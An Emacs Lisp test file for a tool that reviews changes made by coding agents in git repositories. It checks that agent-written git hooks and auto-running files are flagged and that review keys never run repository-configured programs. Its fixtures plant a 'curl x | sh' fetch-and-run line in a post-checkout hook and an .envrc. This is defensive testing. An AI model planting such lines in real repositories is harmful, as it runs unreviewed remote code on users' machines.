;;; agent-q-diff-changes-test.el --- What a review after the write says first  -*- lexical-binding: t; -*-

;; SPDX-License-Identifier: GPL-3.0-or-later

;;; Commentary:

;; What runs by itself has the same sign after the write as before it: protected
;; files in the review, hooks and settings of git's beside it.  And no key runs
;; what an agent has written there.

;;; Code:

(require 'agent-q-diff-git-help)
(require 'agent-q-diff-turns)

(defmacro aqd-changes-in-turn (&rest body)
  "Run BODY as what Codex does in a turn in the test's repository."
  (declare (indent 0) (debug t))
  `(progn
     (agent-q-diff-module-begin-turn aqd-pending-root "Codex" "s" "")
     ,@body
     (agent-q-diff-module-end-turns aqd-pending-root)))

(defun aqd-changes-put-program (name text)
  "Write TEXT to the test's file NAME, which can be executed."
  (aqd-pending-put name text)
  (set-file-modes (aqd-pending-name name) #o755))

(defconst aqd-changes-hook-words "Codex's turn wrote .git/hooks/post-checkout, which git runs"
  "What is said of the hook that `aqd-changes-write-hook' writes.")

(defun aqd-changes-write-hook ()
  "Write a hook, as an agent's shell does."
  (aqd-changes-in-turn
    (aqd-changes-put-program ".git/hooks/post-checkout" "#!/bin/sh\ncurl x | sh\n")))

(ert-deftest aqd-changes-a-hook-is-said-until-it-is-known ()
  (aqd-with-repository
    (aqd-changes-write-hook)
    (let ((nothing (format "%s; nothing else is pending in %s" aqd-changes-hook-words
                           (abbreviate-file-name aqd-pending-root))))
      (dotimes (_ 2)
        (should (equal nothing (aqd-said (agent-q-diff-review-changes)))))
      ;; Also in the answer to a program.
      (should (equal (list nothing) (nth 2 (agent-q-diff-changes-begin aqd-pending-root nil))))
      (should (equal (concat "Codex's turn in PROJECT has ended: " aqd-changes-hook-words)
                     (aqd-in-project
                      (aqd-said (agent-q-diff-turns-ended aqd-pending-root "Codex" #'ignore)))))
      (aqd-pending-put "f.txt" aqd-pending-written)
      (should (equal (format "Codex's turn in PROJECT has ended: %s; 1 file to review; M-x agent-q-diff-review-changes"
                             aqd-changes-hook-words)
                     (aqd-in-project
                      (aqd-said (agent-q-diff-turns-ended aqd-pending-root "Codex" #'ignore)))))
      (aqd-with-pending
        (goto-char (point-min))
        (should (looking-at-p (regexp-quote (concat "# Note: " aqd-changes-hook-words "\n"))))
        ;; To decide all of the files says nothing of it.
        (agent-q-diff-accept-all)
        (agent-q-diff-finish))
      (should (equal nothing (aqd-said (agent-q-diff-review-changes))))
      (should (equal "what was written for git is known"
                     (aqd-said (agent-q-diff-mark-reviewed))))
      (should (string-prefix-p "Nothing is pending" (aqd-said (agent-q-diff-review-changes))))
      (should (equal "Nothing was pending" (aqd-said (agent-q-diff-mark-reviewed)))))))

(ert-deftest aqd-changes-to-mark-one-file-reviewed-says-nothing-of-a-hook ()
  (aqd-with-repository
    (aqd-changes-write-hook)
    (aqd-pending-put "f.txt" aqd-pending-written)
    (with-current-buffer (find-file-noselect (aqd-pending-name "f.txt"))
      (should (equal "1 file is reviewed as it is" (aqd-said (agent-q-diff-mark-reviewed t)))))
    (should (string-prefix-p aqd-changes-hook-words (aqd-said (agent-q-diff-review-changes))))
    (aqd-pending-put "f.txt" aqd-pending-text)
    (should (equal "1 file is reviewed as it is; what was written for git is known"
                   (aqd-said (agent-q-diff-mark-reviewed))))))

(ert-deftest aqd-changes-a-protected-file-has-its-sign-after-the-write ()
  (aqd-with-repository
    (aqd-pending-put "sub/.envrc" "curl x | sh\n")
    (aqd-pending-put "harmless" "1\n")
    (aqd-pending-put "linked" "1\n")
    (make-symbolic-link "linked" (aqd-pending-name "package.json"))
    (aqd-with-pending
      (let ((text (buffer-substring-no-properties (point-min) (point-max)))
            (words (lambda (index)
                     (agent-q-diff-section-state agent-q-diff-buffer-change index))))
        ;; As in a review before the write.
        (should (string-match-p "^# Note: sub/.envrc: PROTECTED: it runs when its directory is entered$"
                                text))
        (dolist (name '("linked" "package.json"))
          (should (string-match-p
                   (format "^# Note: %s: PROTECTED: it runs when packages are installed or a program starts$"
                           name)
                   text)))
        (should-not (string-match-p "harmless: PROTECTED" text))
        (should (equal '(nil t t t)
                       (mapcar (lambda (index)
                                 (and (string-match-p "PROTECTED" (funcall words index)) t))
                               (number-sequence 0 3))))))))

(ert-deftest aqd-changes-of-many-protected-files-some-are-named ()
  (aqd-with-repository
    (dotimes (n 8)
      (aqd-pending-put (format "d%d/Jenkinsfile" n) "x\n"))
    (aqd-with-pending
      (goto-char (point-min))
      (should (= 5 (how-many "^# Note: d[0-9]/Jenkinsfile: PROTECTED: ")))
      (should (= 1 (how-many "^# Note: 3 more files are PROTECTED, as their headings say$"))))))

;;;; What has changed between the look and the key

(defun aqd-changes-refused-p (words)
  "Return non-nil if no key decides in the test's repository, and each says WORDS.
f.txt has two hunks that an agent has written."
  (aqd-pending-put "f.txt" aqd-pending-written)
  (lambda (happens ends)
    (aqd-with-pending
      (switch-to-buffer (current-buffer))
      (funcall happens)
      (let ((has (aqd-pending-has "f.txt")))
        (prog1 (seq-every-p
                (lambda (command)
                  (and (string-match-p words (condition-case err
                                                 (aqd-said (funcall command))
                                               (error (error-message-string err))))
                       (equal has (aqd-pending-has "f.txt"))
                       (equal '(nil nil)
                              (agent-q-diff-change-marks agent-q-diff-buffer-change))))
                (list #'agent-q-diff-accept-hunk #'agent-q-diff-reject-hunk
                      #'agent-q-diff-accept-all
                      (lambda () (agent-q-diff-reject-all t))))
          (funcall ends))))))

(ert-deftest aqd-changes-a-key-decides-nothing-once-git-is-in-the-middle-of-something ()
  (aqd-with-repository
    (should (funcall (aqd-changes-refused-p "git is in the middle of a rebase")
                     (lambda () (make-directory (aqd-pending-name ".git/rebase-merge")))
                     (lambda () (delete-directory (aqd-pending-name ".git/rebase-merge")))))
    ;; A stash that has conflicts is in the index only.
    (should (funcall (aqd-changes-refused-p "files have conflicts, such as g\.txt")
                     (lambda ()
                       (aqd-pending-put "g.txt" "0
")
                       (aqd-pending-git "add" "g.txt")
                       (let ((id (string-trim (aqd-pending-git "hash-object" "g.txt"))))
                         (with-temp-buffer
                           (insert (format "0 %s	g.txt
" (make-string 40 ?0)))
                           (dotimes (n 3)
                             (insert (format "100644 %s %d	g.txt
" id (1+ n))))
                           (let ((default-directory aqd-pending-root))
                             (call-process-region (point-min) (point-max) "git" nil nil nil
                                                  "update-index" "--index-info")))))
                     (lambda () (aqd-pending-git "rm" "-qf" "g.txt"))))
    ;; After that, keys decide again.
    (aqd-with-pending
      (agent-q-diff-reject-all t))
    (should (equal aqd-pending-text (aqd-pending-has "f.txt")))))

(ert-deftest aqd-changes-a-key-decides-nothing-once-the-record-is-gone ()
  (aqd-with-repository
    (should (funcall (aqd-changes-refused-p "what was recorded of .* is gone")
                     (lambda ()
                       (delete-directory (aqd-pending-name ".git/agent-q-diff") t))
                     #'ignore))
    ;; The next look begins a new one.
    (should (equal '("f.txt") (aqd-pending-files)))
    (aqd-with-pending
      (agent-q-diff-accept-all))
    (should-not (aqd-pending-files))))

;;;; What a key runs

(ert-deftest aqd-changes-no-key-runs-what-the-repository-names ()
  (aqd-with-repository
    (let* ((traces (make-temp-file "aqd-traces" t))
           (program (expand-file-name "program" traces))
           (ran (expand-file-name "ran" traces))
           (vc-handled-backends '(Git)))
      (unwind-protect
          (progn
            (aqd-put-bytes (format "#!/bin/sh\necho x >> %s\ncat\n" ran) program)
            (set-file-modes program #o755)
            (aqd-pending-git "config" "core.fsmonitor" program)
            (aqd-pending-git "config" "filter.f.clean" program)
            (aqd-pending-put ".git/info/attributes" "g.txt filter=f\n")
            (make-directory (aqd-pending-name ".git/hooks") t)
            (copy-file program (aqd-pending-name ".git/hooks/post-index-change"))
            (aqd-pending-put "f.txt" aqd-pending-written)
            (aqd-with-pending
              (switch-to-buffer (current-buffer))
              (aqd-press "r r C-_ a")
              (should-not (member (aqd-pending-has "f.txt")
                                  (list aqd-pending-text aqd-pending-written))))
            (should-not (file-exists-p ran))
            ;; All the same, Emacs knows that git has the file, so it makes no backup.
            (with-current-buffer (find-buffer-visiting (aqd-pending-name "f.txt"))
              (should vc-mode)
              (should backup-inhibited))
            ;; It would have run.
            (with-current-buffer (find-buffer-visiting (aqd-pending-name "f.txt"))
              (vc-refresh-state))
            (should (file-exists-p ran)))
        (delete-directory traces t)))))

(provide 'agent-q-diff-changes-test)
;;; agent-q-diff-changes-test.el ends here
